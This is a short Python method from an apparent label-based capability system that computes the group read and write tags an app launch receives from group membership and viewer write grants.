    # -- capability wiring (called by the launcher) -----------------------

    def launch_caps_for(self, app_name: str,
                        viewer: Optional[str] = None) -> list:
        """Extra capabilities an app launch gets from group membership.

        *Read* (``tag+``) for every group in which some member enabled
        this app — group data commingles like user data; *write*
        (``wtag+``) only when the driving ``viewer`` is a group writer
        who granted this app write privilege (viewer-scoped, matching
        :meth:`Provider.launch_caps`).
        """
        from ..labels import plus
        caps = []
        for group in self._groups.values():
            if any(app_name in self.provider.account(u).enabled_apps
                   for u in group.members):
                caps.append(plus(group.data_tag))
            if viewer is not None and group.is_writer(viewer):
                account = self.provider.account(viewer)
                if app_name in account.writable_apps:
                    caps.append(plus(group.write_tag))
        return caps

